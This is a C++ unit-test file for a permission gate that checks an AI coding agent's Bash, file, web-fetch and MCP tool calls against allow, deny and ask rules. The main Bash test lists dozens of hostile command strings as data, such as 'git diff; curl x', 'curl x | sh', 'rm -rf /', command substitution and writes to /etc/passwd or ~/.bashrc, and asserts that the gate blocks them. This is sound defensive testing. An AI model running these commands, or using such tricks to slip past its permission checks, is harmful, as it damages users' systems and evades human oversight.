#include "runner/permissions/gate.h"

#include <gtest/gtest.h>

namespace runner::permissions {
namespace {

using base::Json;
using base::JsonObject;

std::vector<RuleEntry> Cli(std::vector<std::string> texts) {
  return CliRuleEntries(texts, "/repo");
}

// A project at /repo with one additional directory, /extra.
GatePolicy Policy(PermissionMode mode, std::vector<std::string> allow = {},
                  std::vector<std::string> deny = {}, std::vector<std::string> ask = {}) {
  GatePolicy p;
  p.mode = mode;
  p.allow = Cli(std::move(allow));
  p.deny = Cli(std::move(deny));
  p.ask = Cli(std::move(ask));
  p.working_dirs = {"/repo", "/extra"};
  p.cwd = "/repo";
  p.home = "/home/u";
  return p;
}

Json Cmd(std::string_view command) { return JsonObject({{"command", std::string(command)}}); }
Json File(std::string_view path) { return JsonObject({{"file_path", std::string(path)}}); }
Json At(std::string_view path) { return JsonObject({{"path", std::string(path)}}); }
Json Url(std::string_view url) { return JsonObject({{"url", std::string(url)}}); }

bool RunsBash(const Gate& gate, std::string_view command) {
  return gate.Check("Bash", ToolKind::kOther, Cmd(command)).allowed;
}

TEST(GateBash, PrefixRuleAllowsOnlyCommandsMadeOfAllowedParts) {
  Gate gate(Policy(PermissionMode::kDefault, {"Bash(git diff:*)"}));
  EXPECT_TRUE(RunsBash(gate, "git diff"));
  EXPECT_TRUE(RunsBash(gate, "git diff HEAD~1 -- src"));
  EXPECT_TRUE(RunsBash(gate, "git diff && git diff --stat 2>&1 >/dev/null"));
  EXPECT_TRUE(RunsBash(gate, "timeout 30 git diff"));
}

TEST(GateBash, PrefixRuleDoesNotLetAttachedCommandsThrough) {
  Gate gate(Policy(PermissionMode::kDefault, {"Bash(git diff:*)", "Bash(git log:*)"}));
  for (std::string_view attack : {"git diff; curl x",       "git diff && rm -rf /",
                                  "git diff || rm -rf /",   "git diff | sh",
                                  "git diff |& sh",         "git diff & curl x",
                                  "git diff $(curl x)",     "git diff `id`",
                                  "git diff \"$(curl x)\"", "git diff <(curl x)",
                                  "FOO=1 git diff",         "GIT_EXTERNAL_DIFF=/tmp/evil git diff",
                                  "git diff > /etc/passwd", "git diff >> ~/.bashrc",
                                  "git diff\ncurl evil",    "(git diff; curl x)",
                                  "{ git diff; curl x; }",  "git diff ${x:-$(curl x)}",
                                  "git difftool",           "git diff; case $x in a) curl;; esac",
                                  "git diff 'unterminated", "cat <<EOF\n$(curl x)\nEOF",
                                  "sudo git diff",          "bash -c 'git diff'",
                                  "eval git diff",          "$(echo git) diff",
                                  "git diff;curl x",        "git diff&&curl x",
                                  "git diff ; curl x",      "git diff\n\ncurl x",
                                  "git diff\\\ncurl x",     "git diff <<< $(curl x)",
                                  "git diff 2> >(curl x)",  "git diff > >(sh)",
                                  "env X=1 curl x",         "env git diff; curl x",
                                  "nohup curl x",           "timeout 5 curl x",
                                  "git diff | xargs rm",    "command curl x",
                                  "exec curl x",            "git diff & disown; curl x",
                                  "coproc curl x",          "f() { curl x; }; git diff",
                                  "git diff $((1))$(curl x)", "git diff -- $(< /etc/shadow)",
                                  "git diff; git push --force", "git log; rm -rf .git",
                                  "git diff 'a'\"b\"$(curl x)", "git diff >| /etc/hosts"}) {
    EXPECT_FALSE(RunsBash(gate, attack)) << attack;
  }
  // Quoted operators are arguments, not operators.
  EXPECT_TRUE(RunsBash(gate, R"sh(git log --grep=";" --format='%h && %s')sh"));
  EXPECT_TRUE(RunsBash(gate, R"sh(git log --grep="a | b" -- "x;y")sh"));
  // Input redirections read like Read does: inside the working directories only.
  EXPECT_TRUE(RunsBash(gate, "git diff --stat < /dev/null"));
  EXPECT_TRUE(RunsBash(gate, "git diff -- $(< paths.txt)"));
  EXPECT_FALSE(RunsBash(gate, "git diff -- $(< ../outside.txt)"));
}

TEST(GateBash, UndecidedCommandNeedsApprovalWithClaudeCodesMessage) {
  Gate gate(Policy(PermissionMode::kDefault, {"Bash(git diff:*)"}));
  Decision d = gate.Check("Bash", ToolKind::kOther, Cmd("git diff; curl x"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.behavior, Behavior::kAsk);
  EXPECT_EQ(d.reason_type, ReasonType::kDefault);
  EXPECT_EQ(d.message, "Claude requested permissions to use Bash, but you haven't granted it yet.");
}

TEST(GateBash, AllowedCommandReportsTheRules) {
  Gate gate(Policy(PermissionMode::kDefault, {"Bash(git diff:*)", "Bash(wc -l)"}));
  Decision d = gate.Check("Bash", ToolKind::kOther, Cmd("git diff | wc -l"));
  EXPECT_TRUE(d.allowed);
  EXPECT_EQ(d.behavior, Behavior::kAllow);
  EXPECT_EQ(d.reason_type, ReasonType::kRule);
  EXPECT_EQ(d.rule, "Bash(git diff:*), Bash(wc -l)");
  EXPECT_EQ(d.rule_source, "cliArg");
}

TEST(GateBash, DenyRuleMatchesAnyPartEvenWhenBashIsAllowed) {
  Gate gate(Policy(PermissionMode::kDefault, {"Bash"}, {"Bash(curl:*)"}));
  EXPECT_TRUE(RunsBash(gate, "git status && ls"));
  for (std::string_view c : {"git status && curl x", "echo $(curl x)", "/usr/bin/curl x",
                             "env A=1 curl x", "bash -c 'curl x'", "$TOOL x"}) {
    Decision d = gate.Check("Bash", ToolKind::kOther, Cmd(c));
    EXPECT_FALSE(d.allowed) << c;
    EXPECT_EQ(d.behavior, Behavior::kDeny) << c;
    EXPECT_EQ(d.message, "Permission to use Bash has been denied by the rule \"Bash(curl:*)\".")
        << c;
  }
}

TEST(GateBash, CommandsThatCannotBeAnalysedFallToSpecificDenyRules) {
  Gate with_deny(Policy(PermissionMode::kBypassPermissions, {}, {"Bash(rm:*)"}));
  Decision d = with_deny.Check("Bash", ToolKind::kOther, Cmd("case $x in a) ls;; esac"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.message,
            "Permission to use Bash has been denied by the rule \"Bash(rm:*)\" (the command could "
            "not be analysed safely: unsupported shell construct 'case').");
  Gate without(Policy(PermissionMode::kBypassPermissions));
  EXPECT_TRUE(RunsBash(without, "case $x in a) ls;; esac"));
}

TEST(GateBash, AskRuleIsADenialThatSaysApprovalWasNeeded) {
  Gate gate(Policy(PermissionMode::kBypassPermissions, {"Bash"}, {}, {"Bash(git push:*)"}));
  Decision d = gate.Check("Bash", ToolKind::kOther, Cmd("git add . && git push"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.behavior, Behavior::kAsk);
  EXPECT_EQ(d.reason_type, ReasonType::kRule);
  EXPECT_EQ(d.rule, "Bash(git push:*)");
  EXPECT_EQ(d.message,
            "Claude requested permissions to use Bash, but the rule \"Bash(git push:*)\" requires "
            "approval, and nobody can approve it in a non-interactive run.");
}

TEST(GateBash, DenyBeatsAskBeatsAllow) {
  Gate all(Policy(PermissionMode::kDefault, {"Bash(make:*)"}, {"Bash(make:*)"}, {"Bash(make:*)"}));
  EXPECT_EQ(all.Check("Bash", ToolKind::kOther, Cmd("make")).behavior, Behavior::kDeny);
  Gate ask(Policy(PermissionMode::kDefault, {"Bash(make:*)"}, {}, {"Bash(make:*)"}));
  EXPECT_EQ(ask.Check("Bash", ToolKind::kOther, Cmd("make")).behavior, Behavior::kAsk);
}

TEST(GateBash, RedirectionsWriteOnlyWhereEditsAreAllowed) {
  Gate by_default(Policy(PermissionMode::kDefault, {"Bash(echo:*)"}));
  EXPECT_FALSE(RunsBash(by_default, "echo hi > out.txt"));
  EXPECT_TRUE(RunsBash(by_default, "echo hi > /dev/null 2>&1"));
  Gate accept(Policy(PermissionMode::kAcceptEdits, {"Bash(echo:*)", "Bash(cd:*)"}));
  EXPECT_TRUE(RunsBash(accept, "echo hi > out.txt"));
  EXPECT_TRUE(RunsBash(accept, "echo hi >> /extra/log"));
  EXPECT_FALSE(RunsBash(accept, "echo hi > /etc/passwd"));
  EXPECT_FALSE(RunsBash(accept, "echo hi > ../outside"));
  EXPECT_FALSE(RunsBash(accept, "echo hi > $FILE"));
  EXPECT_FALSE(RunsBash(accept, "echo hi > ~/.bashrc"));
  EXPECT_FALSE(RunsBash(accept, "cd /etc && echo x > passwd"));
  Gate edit_rule(Policy(PermissionMode::kDefault, {"Bash(echo:*)", "Edit(//tmp/**)"}));
  EXPECT_TRUE(RunsBash(edit_rule, "echo hi > /tmp/x"));
  EXPECT_FALSE(RunsBash(edit_rule, "echo hi > /repo/x"));
}

TEST(GateBash, EditDenyRulesCoverRedirections) {
  Gate gate(Policy(PermissionMode::kBypassPermissions, {}, {"Edit(.env)"}));
  Decision d = gate.Check("Bash", ToolKind::kOther, Cmd("echo KEY=x > sub/.env"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.message,
            "Permission to use Bash has been denied by the rule \"Edit(.env)\" (the command "
            "writes /repo/sub/.env).");
  EXPECT_TRUE(RunsBash(gate, "echo x > notes.txt"));
}

TEST(GateFiles, ReadOnlyToolsStayInsideTheWorkingDirectories) {
  Gate gate(Policy(PermissionMode::kDefault));
  Decision inside = gate.Check("Read", ToolKind::kReadOnly, File("/repo/src/a.c"));
  EXPECT_TRUE(inside.allowed);
  EXPECT_EQ(inside.reason_type, ReasonType::kMode);
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/extra/b")).allowed);
  EXPECT_TRUE(gate.Check("Grep", ToolKind::kReadOnly, JsonObject({{"pattern", "x"}})).allowed);
  Decision outside = gate.Check("Read", ToolKind::kReadOnly, File("/etc/passwd"));
  EXPECT_FALSE(outside.allowed);
  EXPECT_EQ(outside.reason_type, ReasonType::kWorkingDir);
  EXPECT_EQ(outside.message,
            "Claude requested permissions to read from /etc/passwd, but you haven't granted it "
            "yet.");
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/../etc/passwd")).allowed);
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/repository/x")).allowed);
  EXPECT_FALSE(gate.Check("Grep", ToolKind::kReadOnly, At("/")).allowed);
  EXPECT_FALSE(gate.Check("LS", ToolKind::kReadOnly, At("../x")).allowed);
  EXPECT_FALSE(
      gate.Check("Glob", ToolKind::kReadOnly, JsonObject({{"pattern", "/etc/**"}})).allowed);
}

TEST(GateFiles, RelativePathsStartWhereTheCallRuns) {
  Gate gate(Policy(PermissionMode::kDefault));
  EXPECT_TRUE(gate.Check("Grep", ToolKind::kReadOnly, At("."), "/repo/sub").allowed);
  EXPECT_FALSE(gate.Check("Grep", ToolKind::kReadOnly, At("."), "/tmp").allowed);
  EXPECT_FALSE(gate.Check("Grep", ToolKind::kReadOnly, Json(), "/tmp").allowed);
}

TEST(GateFiles, ReadRulesGrantPathsOutsideTheWorkingDirectories) {
  Gate gate(Policy(PermissionMode::kDefault, {"Read(//etc/**)", "Read(~/.config/app/*)"}));
  Decision d = gate.Check("Read", ToolKind::kReadOnly, File("/etc/hosts"));
  EXPECT_TRUE(d.allowed);
  EXPECT_EQ(d.reason_type, ReasonType::kRule);
  EXPECT_EQ(d.rule, "Read(//etc/**)");
  EXPECT_TRUE(gate.Check("Grep", ToolKind::kReadOnly, At("/etc/ssl")).allowed);
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/home/u/.config/app/x")).allowed);
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/home/u/.ssh/id_rsa")).allowed);
}

TEST(GateFiles, NegatedPatternsCarvePathsOutOfEarlierRulesOfTheSameList) {
  // gitignore semantics within one list: the last matching pattern decides.
  Gate gate(Policy(PermissionMode::kDefault, {"Edit(docs/**)", "Edit(!docs/generated/**)"},
                   {"Read(secrets/**)", "Read(!secrets/public/**)"}));
  EXPECT_TRUE(gate.Check("Write", ToolKind::kEdit, File("/repo/docs/a.md")).allowed);
  EXPECT_FALSE(gate.Check("Write", ToolKind::kEdit, File("/repo/docs/generated/a.md")).allowed);
  Decision secret = gate.Check("Read", ToolKind::kReadOnly, File("/repo/secrets/key.pem"));
  EXPECT_EQ(secret.behavior, Behavior::kDeny);
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/secrets/public/ca.pem")).allowed);
  // A negation alone grants or refuses nothing.
  Gate alone(Policy(PermissionMode::kDefault, {"Edit(!docs/**)"}));
  EXPECT_FALSE(alone.Check("Write", ToolKind::kEdit, File("/repo/docs/a.md")).allowed);
  EXPECT_FALSE(alone.Check("Write", ToolKind::kEdit, File("/repo/src/a.c")).allowed);
}

TEST(GateFiles, EditToolsFollowTheModeAndEditRules) {
  Gate by_default(Policy(PermissionMode::kDefault, {"Edit(docs/**)"}));
  EXPECT_TRUE(by_default.Check("Write", ToolKind::kEdit, File("/repo/docs/a.md")).allowed);
  Decision d = by_default.Check("Edit", ToolKind::kEdit, File("/repo/src/a.c"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.reason_type, ReasonType::kDefault);
  EXPECT_EQ(d.message,
            "Claude requested permissions to write to /repo/src/a.c, but you haven't granted it "
            "yet.");
  Gate accept(Policy(PermissionMode::kAcceptEdits));
  EXPECT_TRUE(accept.Check("MultiEdit", ToolKind::kEdit, File("/extra/x")).allowed);
  Decision outside = accept.Check("Edit", ToolKind::kEdit, File("/etc/x"));
  EXPECT_FALSE(outside.allowed);
  EXPECT_EQ(outside.reason_type, ReasonType::kWorkingDir);
  EXPECT_EQ(outside.message,
            "Claude requested permissions to write to /etc/x, but you haven't granted it yet.");
  EXPECT_TRUE(
      accept
          .Check("NotebookEdit", ToolKind::kEdit, JsonObject({{"notebook_path", "/repo/n.ipynb"}}))
          .allowed);
}

TEST(GateFiles, SlashPatternsStartAtTheSettingsFilesDirectory) {
  GatePolicy p = Policy(PermissionMode::kDefault);
  p.allow = {{"Edit(/generated/**)", "/proj", "projectSettings"}};
  Gate gate(std::move(p));
  Decision d = gate.Check("Write", ToolKind::kEdit, File("/proj/generated/x.h"));
  EXPECT_TRUE(d.allowed);
  EXPECT_EQ(d.rule_source, "projectSettings");
  EXPECT_FALSE(gate.Check("Write", ToolKind::kEdit, File("/repo/generated/x.h")).allowed);
}

TEST(GateFiles, DenyRulesWinEverywhereAndNameOnlyPatternsReachEveryDirectory) {
  Gate gate(Policy(PermissionMode::kBypassPermissions, {"Read"}, {"Read(.env)", "Edit(//etc/**)"}));
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/.env")).allowed);
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/other/place/.env")).allowed);
  EXPECT_FALSE(gate.Check("Write", ToolKind::kEdit, File("/etc/hosts")).allowed);
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/.envrc")).allowed);
}

TEST(GateFiles, SymlinksAreCheckedAtBothEnds) {
  GatePolicy p = Policy(PermissionMode::kAcceptEdits, {}, {"Read(//etc/**)"});
  p.real_path = [](const std::string& path) {
    return path.starts_with("/repo/link") ? "/etc" + path.substr(10) : path;
  };
  Gate gate(std::move(p));
  EXPECT_FALSE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/link/passwd")).allowed);
  EXPECT_FALSE(gate.Check("Write", ToolKind::kEdit, File("/repo/link/x")).allowed);
  EXPECT_TRUE(gate.Check("Write", ToolKind::kEdit, File("/repo/real/x")).allowed);
}

TEST(GateWebFetch, DomainRulesCoverTheHostAndItsSubdomains) {
  Gate gate(Policy(PermissionMode::kDefault, {"WebFetch(domain:example.com)"}));
  EXPECT_TRUE(gate.Check("WebFetch", ToolKind::kOther, Url("https://docs.example.com/a")).allowed);
  EXPECT_FALSE(gate.Check("WebFetch", ToolKind::kOther, Url("https://example.org/")).allowed);
  EXPECT_FALSE(
      gate.Check("WebFetch", ToolKind::kOther, Url("https://evil.com\\@example.com/")).allowed);
  Gate deny(Policy(PermissionMode::kBypassPermissions, {}, {"WebFetch(domain:evil.com)"}));
  EXPECT_FALSE(deny.Check("WebFetch", ToolKind::kOther, Url("https://a.evil.com/")).allowed);
  EXPECT_FALSE(deny.Check("WebFetch", ToolKind::kOther, Url("https://x\\@y/")).allowed);
  EXPECT_TRUE(deny.Check("WebFetch", ToolKind::kOther, Url("https://good.com/")).allowed);
}

TEST(GateMcp, ServerAndToolRules) {
  Gate gate(Policy(PermissionMode::kDefault, {"mcp__fs", "mcp__gh__get_issue", "mcp__db__*"}));
  EXPECT_TRUE(gate.Check("mcp__fs__read", ToolKind::kOther, Json()).allowed);
  EXPECT_TRUE(gate.Check("mcp__gh__get_issue", ToolKind::kOther, Json()).allowed);
  EXPECT_FALSE(gate.Check("mcp__gh__delete_repo", ToolKind::kOther, Json()).allowed);
  EXPECT_TRUE(gate.Check("mcp__db__query", ToolKind::kOther, Json()).allowed);
  // Read-only MCP tools still need a rule.
  EXPECT_FALSE(gate.Check("mcp__other__list", ToolKind::kReadOnly, Json()).allowed);
}

TEST(GateModes, PlanRunsOnlyReadOnlyToolsEvenWhenAllowed) {
  Gate gate(Policy(PermissionMode::kPlan, {"Edit", "Bash"}));
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/a")).allowed);
  Decision d = gate.Check("Edit", ToolKind::kEdit, File("/repo/a"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.behavior, Behavior::kDeny);
  EXPECT_EQ(d.reason_type, ReasonType::kMode);
  EXPECT_FALSE(RunsBash(gate, "ls"));
}

TEST(GateModes, BypassAllowsWhatIsNotDeniedOrAsked) {
  Gate gate(Policy(PermissionMode::kBypassPermissions));
  EXPECT_TRUE(RunsBash(gate, "rm -rf build; curl x | sh"));
  EXPECT_TRUE(gate.Check("Write", ToolKind::kEdit, File("/etc/x")).allowed);
  EXPECT_EQ(gate.Check("Write", ToolKind::kEdit, File("/etc/x")).reason_type, ReasonType::kMode);
}

TEST(GateModes, DontAskDeniesInsteadOfAsking) {
  Gate gate(Policy(PermissionMode::kDontAsk, {"Bash(ls)"}));
  EXPECT_TRUE(RunsBash(gate, "ls"));
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/repo/a")).allowed);
  Decision d = gate.Check("Bash", ToolKind::kOther, Cmd("pwd"));
  EXPECT_FALSE(d.allowed);
  EXPECT_EQ(d.behavior, Behavior::kDeny);
  Gate ask(Policy(PermissionMode::kDontAsk, {"Bash"}, {}, {"Bash(git push:*)"}));
  EXPECT_EQ(ask.Check("Bash", ToolKind::kOther, Cmd("git push")).behavior, Behavior::kDeny);
}

TEST(GateModes, OtherToolsNeedARuleUnlessReadOnly) {
  Gate gate(Policy(PermissionMode::kAcceptEdits));
  EXPECT_TRUE(gate.Check("TodoWrite", ToolKind::kReadOnly, Json()).allowed);
  EXPECT_FALSE(gate.Check("WebSearch", ToolKind::kOther, Json()).allowed);
  EXPECT_EQ(gate.Check("WebSearch", ToolKind::kOther, Json()).message,
            "Claude requested permissions to use WebSearch, but you haven't granted it yet.");
}

TEST(GateRules, UnknownSpecifiersDenyTheWholeToolButNeverAllowIt) {
  Gate gate(Policy(PermissionMode::kDefault, {"Task(Explore)"}, {"WebSearch(anything)"}));
  EXPECT_FALSE(gate.Check("Task", ToolKind::kOther, Json()).allowed);
  Gate bypass(Policy(PermissionMode::kBypassPermissions, {}, {"WebSearch(anything)"}));
  EXPECT_FALSE(bypass.Check("WebSearch", ToolKind::kOther, Json()).allowed);
}

TEST(GateRules, PlainDenyNamesRemoveToolsAndEditCoversEveryEditTool) {
  Gate gate(Policy(PermissionMode::kBypassPermissions, {}, {"Bash", "Edit", "mcp__x"}));
  EXPECT_TRUE(gate.IsRemoved("Bash"));
  EXPECT_TRUE(gate.IsRemoved("Edit"));
  EXPECT_FALSE(gate.IsRemoved("Write"));
  EXPECT_TRUE(gate.IsRemoved("mcp__x__y"));
  EXPECT_FALSE(gate.Check("Write", ToolKind::kEdit, File("/repo/a")).allowed);
  Gate specific(Policy(PermissionMode::kBypassPermissions, {}, {"Edit(*.env)"}));
  EXPECT_FALSE(specific.IsRemoved("Edit"));
}

TEST(GateLegacy, ThreeArgumentFormKeepsThePrintModeBehaviour) {
  Gate gate(PermissionMode::kDefault, {"Bash", "mcp__srv"}, {});
  EXPECT_TRUE(gate.Check("Read", ToolKind::kReadOnly, File("/anywhere/x")).allowed);
  EXPECT_TRUE(gate.Check("Bash", ToolKind::kOther, Cmd("ls")).allowed);
  EXPECT_TRUE(gate.Check("mcp__srv__tool", ToolKind::kOther, Json()).allowed);
  EXPECT_FALSE(gate.Check("mcp__srvx__tool", ToolKind::kOther, Json()).allowed);
  Decision d = gate.Check("Write", ToolKind::kEdit, File("/x/n.txt"));
  EXPECT_EQ(d.message,
            "Claude requested permissions to write to /x/n.txt, but you haven't granted it yet.");
  EXPECT_TRUE(gate.working_dirs().empty());
}

TEST(PermissionMode, ParsesKnownModesAndRejectsOthers) {
  EXPECT_EQ(ParsePermissionMode("acceptEdits").value(), PermissionMode::kAcceptEdits);
  EXPECT_EQ(ParsePermissionMode("dontAsk").value(), PermissionMode::kDontAsk);
  EXPECT_FALSE(ParsePermissionMode("yolo").has_value());
  EXPECT_EQ(PermissionModeName(PermissionMode::kBypassPermissions), "bypassPermissions");
}

TEST(ReasonTypeName, UsesTheSdkWireNames) {
  EXPECT_EQ(ReasonTypeName(ReasonType::kRule), "rule");
  EXPECT_EQ(ReasonTypeName(ReasonType::kMode), "mode");
  EXPECT_EQ(ReasonTypeName(ReasonType::kWorkingDir), "workingDir");
  EXPECT_EQ(ReasonTypeName(ReasonType::kHook), "hook");
  EXPECT_EQ(ReasonTypeName(ReasonType::kDefault), "");
}

}  // namespace
}  // namespace runner::permissions
